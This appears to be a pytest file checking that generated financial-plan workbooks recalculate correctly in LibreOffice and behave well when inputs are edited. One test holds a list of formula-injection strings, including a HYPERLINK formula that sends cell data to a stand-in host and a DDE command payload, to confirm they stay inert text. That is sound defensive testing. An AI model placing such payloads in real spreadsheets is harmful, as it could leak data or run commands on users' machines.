"""A plan's workbook: LibreOffice comes to the same figures as course/finance, before and after inputs are changed."""

import datetime
import io
import re

import msgspec
import openpyxl
import pytest

from course.builders.plan_workbook_page import Page, settle
from course.model.workbook import Look
from course.office.workbook import workbook_bytes
from tests.builders.plan_workbooks import DAY, Book, differences, reckoned, rich_plans, shown_figures
from tests.finance.plans import COMPANY, COOPERATIVE, HOUSEHOLD, LOAN, plan_of

# One worker makes what these tests share; two would make it twice.
pytestmark = pytest.mark.xdist_group("workbook")

LENT = {**COOPERATIVE, "money": {**COOPERATIVE["money"], "loans": [LOAN]}}
ANNUITY = {
    **HOUSEHOLD,
    "months": 30,
    "start": "2026-11",
    "fixed": [*HOUSEHOLD["fixed"], {"name": "thuế đất", "amount": 7_000_000, "every": "year", "month": 8}],
    "tax": {"activity": "services", "cut_30": True, "vat_relief": True},
    "products": [
        {**HOUSEHOLD["products"][0], "yearly": [14_000, 18_500], "costs": [
            {"name": "mận", "amount": 19_600, "bought": [0, 0, 0, 0, 20, 50, 30, 0, 0, 0, 0, 0]},
            {"name": "khác", "amount": None}]},
        {"name": "Trà", "price": 20_000, "yearly": [3000], "costs": [{"name": "lá", "amount": 26_000}]},
    ],
    "money": {
        "opening_cash": 10_000_000, "own_capital": 5_000_000, "owner_pay": 5_000_000, "receivable_days": 45,
        "payable_days": 100, "stock_days": 20, "owed_to_us": 3_000_000, "owed_by_us": 1_000_000,
        "grants": [{"name": "in bao bì", "amount": 20_000_000, "month": 4}],
        "loans": [
            {"lender": "A", "amount": 90_000_000, "month": 3, "rates": [6, 6, 6, 6, 9], "months": 20,
             "method": "annuity", "grace": 2},
            {"lender": "B", "amount": 50_000_000, "month": 2, "rate": "8.4", "months": 12, "grace": 3},
            {"lender": "C", "amount": 7_000_000, "month": 5, "method": "agreed",
             "repayments": [{"month": 8, "amount": 7_000_000}]},
            {"lender": "D"},
        ],
    },
    "assets": [*HOUSEHOLD["assets"], {"name": "tủ", "cost": 50_000_000, "years": None, "month": 7},
               {"name": "xe", "cost": 80_000_000, "years": 2, "month": 2}],
    "appraisal": {"years": 6, "rate": "11.5", "working_capital": 12_000_000},
}  # fmt: skip
WORKED = {"household": HOUSEHOLD, "cooperative": COOPERATIVE, "lent": LENT, "company": COMPANY, "annuity": ANNUITY}
# What a person types into the workbook, by the place in the plan, and the plan that has it.
CHANGES = {
    "household": {"products[0].price": 92_000, "products[0].season[2]": 30, "owner.legal_form": "company"},
    "lent": {"products[1].price": 60_500, "products[0].season[11]": 8, "money.owner_pay": 4_000_000},
    "company": {"products[0].costs[0].amount": 63_000, "money.loans[0].rate": 11, "money.loans[0].method": "annuity",
                "money.loans[0].grace": 6, "money.loans[0].months": 30, "appraisal.rate": 9, "assets[0].month": 4},
    "annuity": {"money.receivable_days": 10, "tax.profit_method": True, "products[0].yearly[1]": 60_000,
                "fixed[4].month": 3, "start_month": 3, "start_year": 2027},
}  # fmt: skip


@pytest.fixture(scope="module")
def books(loaded):
    plans = {f"random-{at}": data for at, data in enumerate(rich_plans(12))}
    made = {name: plan_of(data) for name, data in {**WORKED, **plans}.items()} | loaded.course.plans
    return {name: Book(plan, loaded.course) for name, plan in made.items()}


@pytest.fixture(scope="module")
def opened(books, tmp_path_factory):
    return reckoned({name: book.bytes for name, book in books.items()}, tmp_path_factory.mktemp("books"))


def formulas(content):
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            yield from ((sheet.title, cell) for cell in row if cell.data_type == "f")


def test_libreoffice_reckons_every_figure_of_every_plan(books, opened):
    assert len(opened) == len(WORKED) + 12 + 3
    wrong = {name: found for name, book in books.items() if (found := differences(book, opened[name], book.data))}
    assert wrong == {}
    assert sum(book.data["project"] is not None for book in books.values()) >= 5
    assert sum(len(shown_figures(book.data)) for book in books.values()) > 5000


def test_every_rate_of_return_is_shown_and_no_other(books, opened):
    for name, book in books.items():
        if book.data["project"]:
            shown = [book.value(opened[name], f"project.returns[{at}]") for at in range(3)]
            assert sum(isinstance(one, float | int) for one in shown) == len(book.data["project"]["returns"])


def test_every_figure_is_a_formula_and_its_cached_result_is_what_libreoffice_finds(books, opened):
    for name, book in books.items():
        for key, wanted in shown_figures(book.data):
            assert wanted is None or book.places[key][1].formula, key
        kept = openpyxl.load_workbook(io.BytesIO(book.bytes), data_only=True)
        for title, cell in formulas(book.bytes):
            was, now = (one[title][cell.coordinate].value or "" for one in (kept, opened[name]))
            numbers = [0 if one == "" else one for one in (was, now)]
            if all(isinstance(one, int | float) for one in numbers):
                near = abs(numbers[0] - numbers[1]) <= 1e-3 + 1e-9 * abs(numbers[0])
                assert near, (name, title, cell.coordinate, was, now, cell.value)
            else:
                assert was == now, (name, title, cell.coordinate, was, now, cell.value)


def changed(book, changes):
    """The plan with the changes, and the workbook after a person typed them."""
    raw = msgspec.json.decode(msgspec.json.encode(book.plan))
    sheet = openpyxl.load_workbook(io.BytesIO(book.bytes))
    words = book.course.plan_form
    for path, value in changes.items():
        title, cell = book.places[f"in.{path}"]
        field = next((one for one in words.fields if one.key == re.sub(r"\[\d+\]", "[]", path)), None)
        typed = next((one.label for one in field.choices if one.value == value), value) if field else value
        typed = {True: "có", False: "không"}[typed] if isinstance(typed, bool) else typed
        sheet[title].cell(cell.row + 1, cell.column + 1).value = typed
        if path in ("start_month", "start_year"):
            year, month = raw["start"].split("-")
            raw["start"] = f"{value}-{month}" if path == "start_year" else f"{year}-{value:02}"
            continue
        *way, last = [int(one) if one.isdigit() else one for one in re.findall(r"\w+", path)]
        at = raw
        for step in way:
            at = at[step]
            if step == "season" and len(at) != 12:
                at[:] = ["8.333333333333333"] * 12
        at[last] = value
    held = io.BytesIO()
    sheet.save(held)
    return Book(plan_of(raw), book.course), held.getvalue()


def test_typing_into_the_inputs_changes_the_whole_plan_as_course_finance_does(books, tmp_path):
    after = {name: changed(books[name], changes) for name, changes in CHANGES.items()}
    opened = reckoned({name: content for name, (_, content) in after.items()}, tmp_path)
    for name, (book, _) in after.items():
        assert book.data != books[name].data
        assert differences(book, opened[name], book.data) == [], name


def poisoned(data, texts):
    """The same data with every text field a hostile one."""
    if isinstance(data, dict):
        free = ("name", "lender", "unit", "title", "one_sentence")
        return {key: next(texts) if key in free and isinstance(value, str) else poisoned(value, texts)
                for key, value in data.items()}  # fmt: skip
    return [poisoned(one, texts) for one in data] if isinstance(data, list) else data


HOSTILE = (
    '=HYPERLINK("http://e.example/?"&A1,"EVIL")',
    "+EVIL+1",
    "-EVIL",
    "@SUM(EVIL)",
    "\tEVIL\r=1+1",
    "EVIL\x00\x07_x0041_",
    "{=EVIL}",
    '"&EVIL&"',
    "]]><EVIL/>",
    "«products[0].price»EVIL",
    "=cmd|' /C EVIL'!A0",
    "' EVIL",
    "EVIL" * 9000,
    "http://e.example/EVIL",
    "EVIL\u202e=1",
    "\ud800EVIL",
)


def test_hostile_texts_stay_text(books, loaded, tmp_path):
    texts = (one for _ in range(20) for one in HOSTILE)
    raw = msgspec.json.decode(msgspec.json.encode(books["annuity"].plan))
    raw.update({"title": "x", "one_sentence": "x"})
    raw["owner"]["name"] = "x"
    book = Book(plan_of(poisoned(raw, texts)), loaded.course)
    for title, cell in formulas(book.bytes):
        assert "EVIL" not in cell.value, (title, cell.coordinate)
    texts = [
        cell for sheet in openpyxl.load_workbook(io.BytesIO(book.bytes)) for row in sheet.iter_rows()
        for cell in row if isinstance(cell.value, str) and "EVIL" in cell.value
    ]  # fmt: skip
    assert len(texts) > 25
    assert {cell.data_type for cell in texts} == {"s"}
    assert [cell for cell in texts if cell.hyperlink] == []
    (again,) = reckoned({"hostile": book.bytes}, tmp_path).values()
    assert differences(book, again, book.data) == []
    title, cell = book.places["in.products[0].name"]
    assert again[title].cell(cell.row + 1, 1).value.startswith(("=HYPER", "+EVIL", "-EVIL", "@SUM"))


def test_it_prints_on_a4_scrolls_under_its_heads_and_is_not_locked(books):
    book = openpyxl.load_workbook(io.BytesIO(books["company"].bytes))
    for sheet in book:
        assert sheet.page_setup.paperSize == 9
        assert (sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.page_setup.fitToHeight) == (True, 0)
        assert not sheet.protection.sheet
    assert book["Dòng tiền"].freeze_panes == "C5"
    assert book["Dòng tiền"].print_title_rows == "$1:$4"
    names = [len(book[title]._charts) for title in ("Hòa vốn", "Dòng tiền", "Kết quả năm")]
    assert names == [1, 1, 1]
    assert {"gia_ban_1", "tien_dau_ky", "ty_le_chiet_khau"} <= set(book.defined_names)


def test_the_same_plan_and_day_give_the_same_bytes(books):
    book = books["annuity"]
    assert workbook_bytes(book.made, DAY) == book.bytes
    assert workbook_bytes(book.made, DAY + datetime.timedelta(days=1)) != book.bytes


def test_a_builder_s_slip_is_refused():
    page = Page("x", (10,))
    page.calc(0, "«nowhere»+1", 1, Look.MONEY)
    with pytest.raises(KeyError, match="nowhere"):
        settle([page])
    twice = Page("y", (10,))
    twice.put(0, 1, key="a")
    twice.put(1, 1, key="a")
    with pytest.raises(ValueError, match="two cells"):
        settle([twice])
